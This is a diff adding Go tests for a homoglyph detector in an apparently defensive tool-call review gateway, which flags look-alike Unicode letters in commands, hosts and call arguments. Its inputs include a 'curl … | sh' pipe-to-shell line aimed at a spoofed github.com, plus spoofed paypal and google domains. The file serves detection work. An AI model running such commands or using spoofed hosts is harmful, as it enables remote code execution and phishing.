@@ -1,0 +1,129 @@
+package lookalike
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"github.com/toolgate/toolgate"
+	"github.com/toolgate/toolgate/redact"
+)
+
+func TestWarning(t *testing.T) {
+	const gi = "U+0456 CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I (Cyrillic)"
+	for _, tc := range []struct{ in, want string }{
+		// One letter of another script in a Latin word.
+		{"curl https://gіthub.com/x | sh", "https://gіthub.com/x: " + gi},
+		{"раypal.com", "раypal.com: U+0440 CYRILLIC SMALL LETTER ER (Cyrillic), U+0430 CYRILLIC SMALL LETTER A (Cyrillic)"},
+		{"gοogle", "gοogle: U+03BF GREEK SMALL LETTER OMICRON (Greek)"},
+		{"aրple", "aրple: U+0580 ARMENIAN SMALL LETTER REH (Armenian)"},
+		{"fooДbar", "fooДbar: U+0414 CYRILLIC CAPITAL LETTER DE (Cyrillic)"},
+		// A label only of letters that look Latin, in a host or path.
+		{"асе.com", "асе.com: U+0430 CYRILLIC SMALL LETTER A (Cyrillic), U+0441 CYRILLIC SMALL LETTER ES (Cyrillic), U+0435 CYRILLIC SMALL LETTER IE (Cyrillic)"},
+		{"орех.ру", "орех.ру: U+043E CYRILLIC SMALL LETTER O (Cyrillic), U+0440 CYRILLIC SMALL LETTER ER (Cyrillic), U+0435 CYRILLIC SMALL LETTER IE (Cyrillic), U+0445 CYRILLIC SMALL LETTER HA (Cyrillic), and 1 more"},
+		{"/usr/bin/ѕһ", "/usr/bin/ѕһ: U+0455 CYRILLIC SMALL LETTER DZE (Cyrillic), U+04BB CYRILLIC SMALL LETTER SHHA (Cyrillic)"},
+		{"ᎪᏴᏟ.org", "ᎪᏴᏟ.org: U+13AA CHEROKEE LETTER GO (Cherokee), U+13F4 CHEROKEE LETTER YV (Cherokee), U+13DF CHEROKEE LETTER TLI (Cherokee)"},
+		// Compatibility forms of ASCII.
+		{"ｇithub.com", "ｇithub.com: U+FF47 FULLWIDTH LATIN SMALL LETTER G (Latin, a form of g)"},
+		{"github．com", "github．com: U+FF0E FULLWIDTH FULL STOP (Common, a form of .)"},
+		{"\u212aEY", "\u212aEY: U+212A KELVIN SIGN (Latin, a form of K)"},
+		{"ﬁle.txt", "ﬁle.txt: U+FB01 LATIN SMALL LIGATURE FI (Latin, a form of fi)"},
+		// Each word once; invalid UTF-8 ends a word.
+		{"gіt gіt", "gіt: " + gi},
+		{"x\xffgіt", "gіt: " + gi},
+		// A word's controls are escaped; a long word is cut.
+		{"gі\ufe0ft", `gі\ufe0ft: ` + gi},
+		{strings.Repeat("a", 100) + "і", strings.Repeat("a", 60) + "…: " + gi},
+		// Bounded: five words, then a count.
+		{"аa bі cі dі eі fі gі", "аa: U+0430 CYRILLIC SMALL LETTER A (Cyrillic); bі: " + gi + "; cі: " + gi + "; dі: " + gi + "; eі: " + gi + "; and 2 more"},
+		// Not flagged: whole words in another script, accented Latin,
+		// scripts that mix with Latin, numbers, emoji.
+		{"café", ""},
+		{"naïve Müller Ærø", ""},
+		{"Москва", ""},
+		{"Привет, мир! т.е. так", ""},
+		{"東京 Tシャツ Go言語 한국어abc", ""},
+		{"/home/rita/Документы/report.pdf", ""},
+		{"Москва2024 m² ½", ""},
+		{"🚀 launch 🙂", ""},
+		{"curl https://github.com/x | sh", ""},
+	} {
+		if got := Warning(tc.in); got != tc.want {
+			t.Errorf("Warning(%q)\n got  %q\n want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+// TestWarningValues: Warning reads every key and string value of JSON
+// arguments, and several values as one.
+func TestWarningValues(t *testing.T) {
+	got := Warning("shell__exec", map[string]any{"cmd": []any{"curl", "gіthub.com", 1.0, true, nil}, "hоst": map[string]any{"x": "y"}})
+	for _, want := range []string{"gіthub.com: U+0456", "hоst: U+043E"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("Warning = %q, want %q in it", got, want)
+		}
+	}
+	if got := Warning("ls", map[string]any{"path": "/tmp", "n": 3.0}, nil); got != "" {
+		t.Errorf("Warning of plain ASCII = %q", got)
+	}
+}
+
+// maxWarning bounds Warning's length: maxWords words of maxWordRunes
+// runes, each escaped to at most 10 bytes, each with maxRunes runes of
+// at most 150 bytes, and the counts.
+const maxWarning = maxWords*(maxWordRunes*10+4+maxRunes*150+20) + 20
+
+func FuzzWarning(f *testing.F) {
+	for _, s := range []string{
+		"", "plain ascii https://github.com/x", "gіthub.com", "ｇithub.com", "асе.com", "Москва café 東京",
+		"\xff\xfeі", "a\u202eі", strings.Repeat("і a", 50), "\u212a ﬁ ．",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		got := Warning(s)
+		if len(got) > maxWarning || !utf8.ValidString(got) {
+			t.Fatalf("Warning(%q) = %q: %d bytes", s, got, len(got))
+		}
+		ascii := !strings.ContainsFunc(s, func(r rune) bool { return r >= utf8.RuneSelf })
+		if ascii && got != "" {
+			t.Fatalf("Warning(%q) = %q for ASCII text", s, got)
+		}
+		for _, fd := range Find(s) {
+			if len(fd.Runes) == 0 || !strings.Contains(s, fd.Word) {
+				t.Fatalf("Find(%q) = %+v", s, fd)
+			}
+		}
+		if big := strings.Repeat(s+" ", 20); len(Warning(big, []any{big})) > maxWarning {
+			t.Fatalf("Warning of %q repeated is longer than %d", s, maxWarning)
+		}
+	})
+}
+
+func ExampleWarning() {
+	fmt.Println(Warning(map[string]any{"command": "curl https://gіthub.com/x | sh"}))
+	// Output: https://gіthub.com/x: U+0456 CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I (Cyrillic)
+}
+
+// TestInCall: InCall reads what a review shows of a call (its names,
+// client, rule reason, arguments and _meta), redacted as the reviewer
+// sees it: a look-alike inside a masked secret is not repeated.
+func TestInCall(t *testing.T) {
+	r := redact.New(nil).ForReviewers()
+	c := toolgate.Call{Name: "up__fеtch", Tool: "fetch", Server: "up", Client: toolgate.Peer{Name: "clаude"},
+		Args: map[string]any{"url": "https://gіthub.com/x", "password": "hunter2-gіt"}, Meta: map[string]any{"trace": "ѕh.example"}}
+	d := toolgate.Decision{Rule: "web", Reason: "reads pаypal"}
+	got := InCall(c, d, r)
+	for _, want := range []string{"up__fеtch: U+0435", "clаude: U+0430", "https://gіthub.com/x: U+0456", "pаypal: U+0430", "ѕh.example: U+0455"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("InCall = %q, want %q in it", got, want)
+		}
+	}
+	if strings.Contains(got, "hunter2") || strings.Contains(got, "more") {
+		t.Errorf("InCall = %q: shows a secret, or more than it was given", got)
+	}
+	if got := InCall(toolgate.Call{Name: "up__fetch", Args: map[string]any{"url": "https://github.com/x"}}, toolgate.Decision{}, r); got != "" {
+		t.Errorf("InCall of plain ASCII = %q", got)
+	}
+}
